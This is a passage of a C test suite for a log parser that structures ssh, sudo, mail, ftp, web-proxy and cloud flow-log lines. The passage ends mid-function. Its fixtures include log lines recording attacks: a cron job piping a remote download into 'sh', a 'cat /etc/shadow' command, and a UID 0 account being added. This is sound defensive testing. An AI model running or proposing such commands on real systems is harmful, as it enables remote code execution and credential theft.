// SPDX-License-Identifier: Apache-2.0
#include <stdio.h>
#include <stdlib.h>

#include "base/cleanup.h"
#include "base/strbuf.h"
#include "harness/test.h"
#include "log/text.h"

/* 2026-11-29T12:00:00Z */
static const struct text_clock CLOCK = {.base_ns = 1795953600ULL * 1'000'000'000};

static uint64_t seconds(uint64_t ns)
{
    return ns / 1'000'000'000;
}

static uint64_t utc(int year, unsigned month, unsigned day, unsigned s)
{
    return (uint64_t)text_days(year, month, day) * 86400 + s;
}

TEST(dates_without_a_year_are_the_last_ones)
{
    static const struct {
        const char *text;
        int year;
        unsigned month, day;
    } cases[] = {
        {"Nov 29 06:55:46", 2026, 11, 29}, {"Nov 30 06:55:46", 2026, 11, 30}, /* a clock that is ahead */
        {"Dec  1 06:55:46", 2025, 12, 1},  {"Jan  3 06:55:46", 2026, 1, 3}, {"Feb 29 06:55:46", 2024, 2, 29}, {"Mar 1 06:55:46", 2026, 3, 1},
        {"Dec 10 2019 06:55:46", 2019, 12, 10},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        uint64_t ns = 0;
        struct str s = str_from(cases[i].text);
        CHECK(text_time_syslog(&s, &CLOCK, &ns));
        CHECK_INT(seconds(ns), utc(cases[i].year, cases[i].month, cases[i].day, 6 * 3600 + 55 * 60 + 46));
        CHECK_INT(s.n, 0);
    }
    static const char *const wrong[] = {"", "Dec", "Dez 10 06:55:46", "Dec 32 06:55:46", "Dec 00 06:55:46", "Dec 10 24:55:46", "Dec 10 6:55:46", "Feb 30 01:01:01"};
    for (size_t i = 0; i < ARRAY_SIZE(wrong); i++) {
        uint64_t ns;
        struct str s = str_from(wrong[i]);
        CHECK(!text_time_syslog(&s, &CLOCK, &ns));
        CHECK_STR(s, wrong[i]);
    }
}

TEST(times)
{
    static const struct {
        const char *text;
        uint64_t ns;
    } cases[] = {
        {"2026-11-29T12:00:00Z", 1795953600'000'000'000},      {"2026-11-29 12:00:00", 1795953600'000'000'000},
        {"2026-11-29T21:00:00.25+09:00", 1795953600'250'000'000}, {"2026-11-29T06:30:00-0530", 1795953600'000'000'000},
        {"2026-11-29T12:00:00.123456789123Z", 1795953600'123'456'789}, {"29/Nov/2026:12:00:00 +0000", 1795953600'000'000'000},
        {"29/Nov/2026:12:00:00 -0100", 1795957200'000'000'000},  {"1795953600", 1795953600'000'000'000},
        {"1795953600.5", 1795953600'500'000'000},               {"1795953600123", 1795953600'123'000'000},
        {"1795953600123456", 1795953600'123'456'000},           {"1795953600123456789", 1795953600'123'456'789},
        {"Nov 29 12:00:00", 1795953600'000'000'000},            {"1970-01-01T00:00:00Z", 0},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        uint64_t ns = 1;
        CHECK(text_time_any(str_from(cases[i].text), &CLOCK, &ns));
        CHECK_INT(ns, cases[i].ns);
    }
    uint64_t ns;
    CHECK(!text_time_any(STR("yesterday"), &CLOCK, &ns) && !text_time_any(STR(""), &CLOCK, &ns) && !text_time_any(STR("2026-02-29T00:00:00Z"), &CLOCK, &ns));
    const struct text_clock berlin = {.base_ns = CLOCK.base_ns, .offset_s = 3600};
    CHECK(text_time_any(STR("2026-11-29T13:00:00"), &berlin, &ns));
    CHECK_INT(ns, CLOCK.base_ns);
    for (int64_t day = -719468; day < 400000; day += 97) {
        CHECK_INT(text_days(1970, 1, 1), 0);
        CHECK_INT(text_days(2000, 2, 29) + 1, text_days(2000, 3, 1));
        break;
    }
}

/* Everything that a line says, as name=value. */
static struct str said(const struct text *t)
{
    static struct strbuf b;
    strbuf_clear(&b);
    for (unsigned id = TEXT_ACTION; id < TEXT__N; id++) {
        if (!text_has(t, (enum text_id)id))
            continue;
        strbuf_printf(&b, "%s%s=", b.n ? " " : "", text_name((enum text_id)id));
        value_add_text(&b, &t->v[id]);
    }
    if (t->repeat > 1)
        strbuf_printf(&b, " x%u", t->repeat);
    return strbuf_str(&b);
}

struct line {
    const char *text, *want; /* want NULL: no such line */
};

static const struct line AUTH[] = {
    {"Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2",
     "login.action=login login.user=webmaster login.outcome=failure login.method=password ip=173.234.31.186 port=38926 login.unknown_user=true"},
    {"2026-11-29T06:55:48.123456+09:00 web1 sshd-session[24200]: Accepted publickey for deploy from 2001:db8::7 port 51122 ssh2: ED25519 SHA256:abcDEF",
     "login.action=login login.user=deploy login.outcome=success login.method=publickey login.key=SHA256:abcDEF ip=2001:db8::7 port=51122"},
    {"Dec 10 09:32:20 LabSZ sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2",
     "login.action=login login.user=fztu login.outcome=success login.method=password ip=119.137.62.142 port=49116"},
    {"Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
     "login.action=login login.user=root login.outcome=failure login.method=password ip=5.36.59.76 port=42393 x5"},
    /* a name that looks like an address */
    {"Dec 10 06:55:48 h sshd[1]: Failed password for invalid user x from 10.0.0.1 port 22 from 203.0.113.9 port 4000 ssh2",
     "login.action=login login.user=x from 10.0.0.1 port 22 login.outcome=failure login.method=password ip=203.0.113.9 port=4000 login.unknown_user=true"},
    {"Dec 10 06:55:48 h sshd[1]: Failed keyboard-interactive/pam for root from 203.0.113.9 port 4000 ssh2",
     "login.action=login login.user=root login.outcome=failure login.method=keyboard-interactive ip=203.0.113.9 port=4000"},
    {"Dec 10 06:55:48 h sshd[1]: Failed none for root from 203.0.113.9 port 4000 ssh2",
     "login.action=probe login.user=root login.method=none login.reason=methods-asked ip=203.0.113.9 port=4000"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user  from 173.234.31.186", "login.action=probe login.reason=unknown-user ip=173.234.31.186 login.unknown_user=true"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user oracle from 173.234.31.186 port 4", "login.action=probe login.user=oracle login.reason=unknown-user ip=173.234.31.186 port=4 login.unknown_user=true"},
    {"Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186  user=root",
     "login.action=probe login.user=root login.method=password login.reason=pam login.tty=ssh ip=173.234.31.186"},
    {"Dec 10 06:55:46 h sshd[1]: error: PAM: Authentication failure for illegal user bob from 203.0.113.9",
     "login.action=login login.user=bob login.outcome=failure login.method=keyboard-interactive ip=203.0.113.9 login.unknown_user=true"},
    {"Dec 10 06:55:46 h sshd[1]: User root from 203.0.113.9 not allowed because not listed in AllowUsers",
     "login.action=login login.user=root login.outcome=failure login.reason=not-allowed ip=203.0.113.9"},
    {"Dec 10 06:55:46 h sshd[1]: Connection closed by authenticating user root 203.0.113.9 port 51000 [preauth]",
     "login.action=probe login.user=root login.reason=closed-before-login ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: Connection closed by invalid user a b 203.0.113.9 port 51000 [preauth]",
     "login.action=probe login.user=a b login.reason=closed-before-login ip=203.0.113.9 port=51000 login.unknown_user=true"},
    {"Dec 10 06:55:46 h sshd[1]: Connection closed by 203.0.113.9 port 51000 [preauth]", "login.action=probe login.reason=closed-before-login ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: Disconnected from user alice 203.0.113.9 port 51000", "login.action=logout login.user=alice ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: Received disconnect from 212.47.254.145: 11: Bye Bye [preauth]", "login.action=probe login.reason=closed-before-login ip=212.47.254.145"},
    {"Dec 10 06:55:46 h sshd[1]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 51000 ssh2 [preauth]",
     "login.action=probe login.reason=too-many-attempts ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: Disconnecting authenticating user root 203.0.113.9 port 51000: Too many authentication failures [preauth]",
     "login.action=probe login.user=root login.reason=too-many-attempts ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: Did not receive identification string from 203.0.113.9 port 51000", "login.action=probe login.reason=no-identification ip=203.0.113.9 port=51000"},
    {"Dec 10 06:55:46 h sshd[1]: reverse mapping checking getaddrinfo for a.example [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
     "login.action=probe login.reason=name-and-address-differ ip=173.234.31.186"},
    {"Dec 10 06:55:46 h sshd[1]: Unable to negotiate with 203.0.113.9 port 4: no matching host key type found. Their offer: ssh-dss [preauth]",
     "login.action=probe login.reason=nothing-in-common ip=203.0.113.9 port=4"},
    {"Dec 10 06:55:46 h sshd[1]: drop connection #11 from [203.0.113.9]:3456 on [10.0.0.1]:22 past MaxStartups", "login.action=probe login.reason=too-many-connections ip=203.0.113.9 port=3456"},
    {"Dec 10 06:55:46 h dropbear[7]: Bad password attempt for 'admin' from 203.0.113.9:40123", "login.action=login login.user=admin login.outcome=failure login.method=password ip=203.0.113.9 port=40123"},
    {"Dec 10 06:55:46 h dropbear[7]: Login attempt for nonexistent user from 203.0.113.9:40123", "login.action=login login.outcome=failure login.method=password ip=203.0.113.9 port=40123 login.unknown_user=true"},
    {"Dec 10 06:55:46 h dropbear[7]: Pubkey auth succeeded for 'root' with key sha1!! aa:bb from 203.0.113.9:40123", "login.action=login login.user=root login.outcome=success login.method=publickey ip=203.0.113.9 port=40123"},
    {"Dec 10 06:55:46 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c echo a ; id",
     "login.action=command login.user=alice login.target=root login.outcome=success login.command=/bin/sh -c echo a ; id login.tty=pts/0"},
    {"Dec 10 06:55:46 h sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
     "login.action=command login.user=www-data login.target=root login.outcome=failure login.reason=not-allowed login.command=/bin/sh login.tty=unknown"},
    {"Dec 10 06:55:46 h sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
     "login.action=command login.user=alice login.target=root login.outcome=failure login.reason=wrong-password login.command=/bin/ls login.tty=pts/0"},
    {"Dec 10 06:55:46 h sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)", "login.action=session login.user=alice login.target=root"},
    {"Dec 10 06:55:46 h su[4]: (to root) alice on pts/1", "login.action=switch login.user=alice login.target=root login.outcome=success login.tty=pts/1"},
    {"Dec 10 06:55:46 h su[4]: FAILED SU (to root) alice on pts/1", "login.action=switch login.user=alice login.target=root login.outcome=failure login.tty=pts/1"},
    {"Dec 10 06:55:46 h su[4]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/1 ruser=alice rhost=  user=root",
     "login.action=switch login.user=alice login.target=root login.outcome=failure login.method=password login.tty=/dev/pts/1"},
    {"Dec 10 06:55:46 h useradd[9]: new user: name=syst, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0", "login.action=account-added login.target=syst login.reason=uid-0"},
    {"Dec 10 06:55:46 h usermod[9]: add 'bob' to group 'sudo'", "login.action=group-joined login.target=bob login.reason=sudo"},
    {"Dec 10 06:55:46 h userdel[9]: delete user 'bob'", "login.action=account-removed login.target=bob"},
    {"Dec 10 06:55:46 h passwd[9]: pam_unix(passwd:chauthtok): password changed for root", "login.action=password-changed login.target=root"},
    {"Dec 10 06:55:46 h CRON[9]: (root) CMD (curl -s http://203.0.113.9/x | sh)", "login.action=schedule login.user=root login.command=curl -s http://203.0.113.9/x | sh"},
    {"Dec 10 06:55:46 h login[9]: FAILED LOGIN (2) on '/dev/tty1' FOR 'root', Authentication failure", "login.action=login login.user=root login.outcome=failure"},
    {"Dec 10 06:55:46 h vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=ftpuser rhost=::ffff:203.0.113.9  user=ftpuser",
     "login.action=login login.user=ftpuser login.outcome=failure login.method=password login.tty=ftp ip=203.0.113.9"},
    {"Dec 10 06:55:46 h sshd[7]: Timeout before authentication for connection from 203.0.113.9 to 10.0.0.1, pid = 7", "login.action=probe login.reason=timeout ip=203.0.113.9"},
    {"Dec 10 06:55:46 h gpasswd[7]: user eve added by root to group sudo", "login.action=group-joined login.user=root login.target=eve login.reason=sudo"},
    {"Dec 10 06:55:46 h gpasswd[7]: user eve added by root", ""},
    {"Dec 10 06:55:46 h doas: alice ran command cat /etc/shadow as root from /home/alice", "login.action=command login.user=alice login.target=root login.outcome=success login.command=cat /etc/shadow"},
    {"Dec 10 06:55:46 h doas: failed auth for alice", "login.action=command login.user=alice login.outcome=failure login.reason=wrong-password"},
    {"Dec 10 06:55:46 h doas: command not permitted for alice: id", "login.action=command login.user=alice login.outcome=failure login.reason=not-allowed login.command=id"},
    {"Dec 10 06:55:46 h pkexec[7]: alice: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/] [COMMAND=/bin/sh -c [x]]", "login.action=command login.user=alice login.target=root login.outcome=success login.command=/bin/sh -c [x] login.tty=/dev/pts/0"},
    {"Dec 10 06:55:46 h pkexec[7]: alice: Error executing command as another user: Not authorized [USER=root] [TTY=/dev/pts/0] [CWD=/] [COMMAND=/bin/sh]", "login.action=command login.user=alice login.target=root login.outcome=failure login.reason=not-allowed login.command=/bin/sh login.tty=/dev/pts/0"},
    {"Dec 10 06:55:46 h dovecot: imap-login: Login: user=<bob>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.1, mpid=7, TLS, session=<x>", "login.action=login login.user=bob login.outcome=success login.method=PLAIN ip=203.0.113.9"},
    {"Dec 10 06:55:46 h dovecot: pop3-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<x, rip=192.0.2.1>, method=LOGIN, rip=203.0.113.9, lip=10.0.0.1", "login.action=login login.user=x, rip=192.0.2.1 login.outcome=failure login.method=LOGIN ip=203.0.113.9"},
    {"Dec 10 06:55:46 h dovecot: imap-login: Login aborted: Connection closed (auth failed, 3 attempts in 9 secs) (auth_failed): user=<root>, method=PLAIN, rip=2001:db8::1, lip=2001:db8::2", "login.action=login login.user=root login.outcome=failure login.method=PLAIN ip=2001:db8::1"},
    {"Dec 10 06:55:46 h dovecot: imap-login: Disconnected (no auth attempts in 0 secs): user=<>, rip=203.0.113.9, lip=10.0.0.1", ""},
    {"Dec 10 06:55:46 h dovecot: imap-login: Disconnected: user=<(auth failed>, rip=203.0.113.9, lip=10.0.0.1", ""},
    {"Dec 10 06:55:46 h dovecot: imap(bob)<7><x>: Disconnected: Logged out in=1 out=2", ""},
    {"Dec 10 06:55:46 h postfix/smtpd[7]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=root", "login.action=login login.user=root login.outcome=failure login.method=LOGIN ip=203.0.113.9"},
    {"Dec 10 06:55:46 h postfix/smtpd[7]: 4Q2: client=mail.example[203.0.113.9], sasl_method=PLAIN, sasl_username=bob", "login.action=login login.user=bob login.outcome=success login.method=PLAIN ip=203.0.113.9"},
    {"Dec 10 06:55:46 h postfix/smtpd[7]: 4Q2: client=mail.example[203.0.113.9]", ""},
    {"Dec 10 06:55:46 h proftpd[7]: h (unknown[203.0.113.9]) - USER root (Login failed): Incorrect password", "login.action=login login.user=root login.outcome=failure ip=203.0.113.9"},
    {"Dec 10 06:55:46 h proftpd[7]: h (unknown[203.0.113.9]) - USER eve: no such user found from x [192.0.2.1] to 10.0.0.1:21", "login.action=login login.user=eve login.outcome=failure ip=203.0.113.9 login.unknown_user=true"},
    {"Dec 10 06:55:46 h proftpd[7]: h (unknown[203.0.113.9]) - USER bob: Login successful.", "login.action=login login.user=bob login.outcome=success ip=203.0.113.9"},
    {"Dec 10 06:55:46 h vsftpd[7]: [bob] OK LOGIN: Client \"::ffff:203.0.113.9\"", "login.action=login login.user=bob login.outcome=success ip=203.0.113.9"},
    {"Dec 10 06:55:46 h vsftpd[7]: [x] OK LOGIN: Client \"1.1.1.1\"] FAIL LOGIN: Client \"203.0.113.9\"", "login.action=login login.user=x] OK LOGIN: Client \"1.1.1.1\" login.outcome=failure ip=203.0.113.9"},
    {"Dec 10 06:55:46 h webmin[7]: Invalid login as root from 1.1.1.1 from 203.0.113.9", "login.action=login login.user=root from 1.1.1.1 login.outcome=failure ip=203.0.113.9"},
    {"Dec 10 06:55:46 h webmin[7]: Successful login as root from 203.0.113.9", "login.action=login login.user=root login.outcome=success ip=203.0.113.9"},
    {"Dec 10 06:55:46 h xrdp-sesman[7]: [INFO ] AUTHFAIL: user=a ip=1.1.1.1 ip=203.0.113.9 time=1", "login.action=login login.user=a ip=1.1.1.1 login.outcome=failure ip=203.0.113.9"},
    {"Dec 10 06:55:46 h auth.info sshd[7]: Failed password for root from 203.0.113.9 port 22 ssh2", "login.action=login login.user=root login.outcome=failure login.method=password ip=203.0.113.9 port=22"},
    {"Wed Dec 10 06:55:46 2025 authpriv.warn dropbear[7]: Bad password attempt for 'root' from 203.0.113.9:5", "login.action=login login.user=root login.outcome=failure login.method=password ip=203.0.113.9 port=5"},
    {"Dec 10 06:55:46 h auth.loud sshd[7]: Failed password for root from 203.0.113.9 port 22 ssh2", NULL},
    {"Wed Dec 10 06:55:46 2025 h sshd[7]: x", NULL}, {"Wed Dec 10 06:55:46 2025", NULL}, {"Wed Dec 10 06:55:46 20x5 auth.info sshd[7]: x", NULL},
    {"Dec 10 06:55:46 h kernel: usb 1-1: new device", ""},
    {"<38>Dec 10 06:55:46 h systemd-logind[3]: New session 4 of user alice.", ""},
    {"Dec 10 06:55:46", NULL}, {"", NULL}, {"x", NULL}, {"Dec 10 06:55:46 host", NULL}, {"127.0.0.1 - - [29/Nov/2026:12:00:00 +0000] \"GET / HTTP/1.1\" 200 1", NULL},
};

TEST(login_lines)
{
    for (size_t i = 0; i < ARRAY_SIZE(AUTH); i++) {
        static struct text t;
        const bool is = text_auth_line(str_from(AUTH[i].text), &CLOCK, &t);
        if (is != (AUTH[i].want != NULL))
            test_fail(__FILE__, __LINE__, "%s", AUTH[i].text);
        if (is)
            CHECK_STR(said(&t), AUTH[i].want);
    }
}

static const struct line ACCESS[] = {
    {"203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"GET /a?b=c HTTP/1.1\" 200 123 \"-\" \"curl/8.0\"",
     "ip=203.0.113.9 http.method=GET http.url=/a?b=c http.version=1.1 http.status=200 http.bytes=123 http.agent=curl/8.0"},
    {"203.0.113.9 - bob [29/Nov/2026:12:00:00 +0000] \"POST / HTTP/1.0\" 404 -", "ip=203.0.113.9 http.method=POST http.url=/ http.version=1.0 http.status=404 http.user=bob"},
    {"www.example:443 203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"GET / HTTP/2.0\" 301 0 \"http://r/\" \"a \\\"b\\\"\" 0.003",
     "ip=203.0.113.9 http.method=GET http.url=/ http.version=2.0 http.status=301 http.bytes=0 http.referrer=http://r/ http.agent=a \\\"b\\\" http.host=www.example:443"},
    {"2001:db8::1 - - [29/Nov/2026:12:00:00 +0000] \"\\x16\\x03\\x01\" 400 226", "ip=2001:db8::1 http.url=\\x16\\x03\\x01 http.status=400 http.bytes=226"},
    {"203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"GET /a b c HTTP/1.1\" 200 1", "ip=203.0.113.9 http.method=GET http.url=/a b c http.version=1.1 http.status=200 http.bytes=1"},
    {"203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"GET /\" 200 1", "ip=203.0.113.9 http.method=GET http.url=/ http.status=200 http.bytes=1"},
    {"203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"-\" 408 0 \"-\" \"-\"", "ip=203.0.113.9 http.status=408 http.bytes=0"},
    {"203.0.113.9 - - [29/Nov/2026:12:00:00 +0000] \"GET / HTTP/1.1", NULL},
    {"203.0.113.9 - - [yesterday] \"GET / HTTP/1.1\" 200 1", NULL},
    {"not - - [29/Nov/2026:12:00:00 +0000] nothing", NULL},
    {"", NULL}, {"Dec 10 06:55:46 h sshd[1]: hello [29/Nov/2026:12:00:00 +0000]", NULL},
};

TEST(access_lines)
{
    for (size_t i = 0; i < ARRAY_SIZE(ACCESS); i++) {
        static struct text t;
        const bool is = text_access_line(str_from(ACCESS[i].text), &t);
        if (is != (ACCESS[i].want != NULL))
            test_fail(__FILE__, __LINE__, "%s", ACCESS[i].text);
        if (is) {
            CHECK_STR(said(&t), ACCESS[i].want);
            CHECK_INT(t.time_ns, CLOCK.base_ns);
        }
    }
}

/* Of HAProxy and of Envoy, as they come without settings, and of Istio. */
static const struct {
    bool (*take)(struct str line, struct text *t);
    const char *text, *want;
} PROXIES[] = {
    {text_access_haproxy, "203.0.113.9:33317 [29/Nov/2026:12:00:00.655] in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {a|b \"c} {} \"GET /i.html?x=${y} HTTP/1.1\"",
     "ip=203.0.113.9 http.url=c} {}  http.status=200 http.bytes=2750"}, /* what a client sent was captured, and holds a quote */
    {text_access_haproxy, "203.0.113.9:33317 [29/Nov/2026:12:00:00.655] in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {h} {} \"GET /i.html?x=${y} HTTP/1.1\"",
     "ip=203.0.113.9 http.method=GET http.url=/i.html?x=${y} http.version=1.1 http.status=200 http.bytes=2750"},
    {text_access_haproxy, "2001:db8::1:33317 [29/Nov/2026:12:00:00.655] in~ static/srv1 10/0/30/69/109 -1 0 - - CR-- 1/1/1/1/0 0/0 \"GET https://h.example/ HTTP/2.0\" 0/0/0/0/0 -/TLSv1.3/x",
     "ip=2001:db8::1 http.method=GET http.url=/ http.version=2.0 http.bytes=0 http.host=h.example"},
    {text_access_haproxy, "203.0.113.9:1 [29/Nov/2026:12:00:00.655] in in/<NOSRV> -1/-1/-1/-1/0 400 0 - - PR-- 1/1/0/0/0 0/0 \"<BADREQ>\"", "ip=203.0.113.9 http.url=<BADREQ> http.status=400 http.bytes=0"},
    {text_access_haproxy, "203.0.113.9:33313 [29/Nov/2026:12:00:00.003] fnt bck/srv1 0/0/5007 212 -- 0/0/0/0/3 0/0", NULL},
    {text_access_haproxy, "Proxy in started.", NULL},
    {text_access_haproxy, "", NULL},
    {text_access_envoy, "[2026-11-29T12:00:00.310Z] \"POST /a?b=c HTTP/2\" 204 - 154 7 226 100 \"192.0.2.1, 203.0.113.9\" \"curl\" \"cc21\" \"h.example\" \"tcp://10.0.2.1:80\"",
     "ip=203.0.113.9 http.method=POST http.url=/a?b=c http.version=2 http.status=204 http.bytes=7 http.agent=curl http.host=h.example"},
    {text_access_envoy, "[2026-11-29T12:00:00.310Z] \"GET /s HTTP/1.1\" 418 - via_upstream - \"-\" 0 135 5 4 \"-\" \"curl/7\" \"84\" \"b:8000\" \"127.0.0.1:80\" inbound|8000|| 127.0.0.1:41854 10.44.1.27:80 203.0.113.9:37652 out_.8000_._.h default",
     "ip=203.0.113.9 http.method=GET http.url=/s http.version=1.1 http.status=418 http.bytes=135 http.agent=curl/7 http.host=b:8000"},
    {text_access_envoy, "[2026-11-29T12:00:00.310Z] \"- - -\" 0 - - - \"-\" 0 135 5 -", NULL},
    {text_access_envoy, "[2026-11-29 12:00:00.310][1][info] \"x\" 200", NULL},
    {text_access_envoy, "[2026-11-29T12:00:00.310Z]", NULL},
    {text_access_envoy, "", NULL},
};

TEST(lines_of_proxies)
{
    for (size_t i = 0; i < ARRAY_SIZE(PROXIES); i++) {
        static struct text t;
        const bool is = PROXIES[i].take(str_from(PROXIES[i].text), &t);
        if (is != (PROXIES[i].want != NULL))
            test_fail(__FILE__, __LINE__, "%s", PROXIES[i].text);
        if (is) {
            CHECK_STR(said(&t), PROXIES[i].want);
            CHECK_INT(seconds(t.time_ns), seconds(CLOCK.base_ns));
        }
    }
}

TEST(flow_lines)
{
    struct flow_columns c;
    static struct text t;
    text_flow_default(&c);
    CHECK(text_flow_line(STR("2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK"), &c, &t));
    CHECK_STR(said(&t), "flow.account=123456789010 flow.interface=eni-1235b8ca123456789 flow.src=172.31.16.139 flow.dst=172.31.16.21 flow.sport=20641 flow.dport=22 "
                        "flow.protocol=tcp flow.packets=20 flow.bytes=4249 flow.start=1418530010000000000 flow.end=1418530070000000000 flow.action=ACCEPT flow.status=OK");
    CHECK_INT(t.time_ns, 1418530010'000'000'000);
    CHECK(text_flow_line(STR("2 123456789010 eni-1 - - - - - - - 1431280876 1431280934 - NODATA"), &c, &t));
    CHECK_STR(said(&t), "flow.account=123456789010 flow.interface=eni-1 flow.start=1431280876000000000 flow.end=1431280934000000000 flow.status=NODATA");
    CHECK(!text_flow_line(STR("2 123456789010 eni-1 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT"), &c, &t));
    CHECK(!text_flow_line(STR("2 123456789010 eni-1 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK x"), &c, &t));
    CHECK(!text_flow_line(STR("2 123456789010 eni-1 172.31.16.999 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK"), &c, &t));

    CHECK(!text_flow_header(STR("2 123456789010 eni-1 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK"), &c));
    CHECK(!text_flow_header(STR("version account-id srcaddr"), &c));
    CHECK(text_flow_header(STR("version srcaddr pkt-dstaddr dstaddr srcport dstport bytes region az-id traffic-path flow-direction start something-new"), &c));
    CHECK(text_flow_line(STR("5 10.0.1.5 52.95.4.10 10.0.0.220 40000 443 900 eu-west-1 euw1-az1 8 egress 1616729292 x"), &c, &t));
    CHECK_STR(said(&t), "flow.src=10.0.1.5 flow.dst=10.0.0.220 flow.sport=40000 flow.dport=443 flow.bytes=900 flow.start=1616729292000000000 "
                        "flow.pkt_dst=52.95.4.10 flow.region=eu-west-1 flow.zone=euw1-az1 flow.direction=egress flow.path=8");
    /* Alibaba Cloud, with commas */
    CHECK(text_flow_header(STR("version,vswitch-id,vm-id,vpc-id,account-id,eni-id,srcaddr,srcport,dstaddr,dstport,protocol,direction,packets,bytes,start,end,action,log-status"), &c));
    CHECK(text_flow_line(STR("1,vsw-1,i-1,vpc-1,1210,eni-9,10.0.0.1,53,8.8.8.8,5300,17,out,1,128,1553741790,1553741850,ACCEPT,OK"), &c, &t));
    CHECK_STR(said(&t), "flow.account=1210 flow.interface=eni-9 flow.src=10.0.0.1 flow.dst=8.8.8.8 flow.sport=53 flow.dport=5300 flow.protocol=udp flow.packets=1 "
                        "flow.bytes=128 flow.start=1553741790000000000 flow.end=1553741850000000000 flow.action=ACCEPT flow.status=OK flow.vpc=vpc-1 flow.subnet=vsw-1 "
                        "flow.instance=i-1 flow.direction=egress");
}

TEST(flow_lines_without_a_header)
{
#define CORE "172.31.9.69 172.31.9.12 49761 3389 6 20 4249 1418530010 1418530070 REJECT"
    static const struct {
        const char *line, *want; /* NULL: not told by it */
    } LINES[] = {
        {"2 123456789010 eni-1 " CORE " OK", "flow.account=123456789010 flow.interface=eni-1 @ flow.status=OK"},
        {"3 123456789010 eni-1 " CORE " OK vpc-1 subnet-2 i-3 19 IPv4 10.0.0.1 10.0.0.2 eu-west-1 euw1-az1 - - - S3 egress 8",
         "flow.account=123456789010 flow.interface=eni-1 @ flow.status=OK flow.vpc=vpc-1 flow.subnet=subnet-2 flow.instance=i-3 flow.tcp_flags=19 flow.pkt_src=10.0.0.1 flow.pkt_dst=10.0.0.2 flow.region=eu-west-1 flow.direction=egress"},
        {"vpc-1 subnet-2 - eni-1 " CORE, "flow.interface=eni-1 @ flow.vpc=vpc-1 flow.subnet=subnet-2"},
        {CORE " ingress us-gov-east-1", "@ flow.region=us-gov-east-1 flow.direction=ingress"},
        {"2 123456789010 eni-1 - - - - - - - 1431280876 1431280934 - NODATA", NULL},
        {"172.31.9.69 172.31.9.12 49761 70000 6 20 4249 1418530010 1418530070 REJECT", NULL},
        {"172.31.9.69 172.31.9.12 49761 3389 6 20 4249 1418530010 141853007 REJECT", NULL},
        {"172.31.9.69 - 49761 3389 6 20 4249 1418530010 1418530070 REJECT", NULL},
        {"172.31.9.69 172.31.9.12 49761 3389 6 20 4249 1418530010 1418530070", NULL},
        {"", NULL},
    };
    static const char MIDDLE[] = "flow.src=172.31.9.69 flow.dst=172.31.9.12 flow.sport=49761 flow.dport=3389 flow.protocol=tcp flow.packets=20 flow.bytes=4249 flow.start=1418530010000000000 flow.end=1418530070000000000 flow.action=REJECT";
    for (size_t i = 0; i < ARRAY_SIZE(LINES); i++) {
        struct flow_columns c = {};
        static struct text t;
        CHECK_INT(text_flow_guess(str_from(LINES[i].line), &c), LINES[i].want != NULL);
        if (!LINES[i].want)
            continue;
        struct strbuf want = {};
        const char *at = strchr(LINES[i].want, '@');
        strbuf_printf(&want, "%.*s%s%s", (int)(at - LINES[i].want), LINES[i].want, MIDDLE, at + 1);
        CHECK(text_flow_line(str_from(LINES[i].line), &c, &t));
        CHECK_STR(said(&t), want.p);
        strbuf_done(&want);
    }
#undef CORE
}

/* Lines that nobody here wrote, when they are there. */
TEST(openssh_2k)
{
    const char *root = getenv("DAVY_SOURCE_ROOT");
    char path[4096], line[8192];
    snprintf(path, sizeof(path), "%s/../shared/data/auth/OpenSSH_2k.log", root ? root : ".");
    _cleanup_fclose_ FILE *f = fopen(path, "re");
    if (!f)
        test_skip("the shared data is not here");
    unsigned lines = 0, known = 0, failures = 0, successes = 0;
    while (fgets(line, sizeof(line), f)) {
        static struct text t;
        lines++;
        struct str s = str_trim(str_from(line));
        if (!text_auth_line(s, &CLOCK, &t))
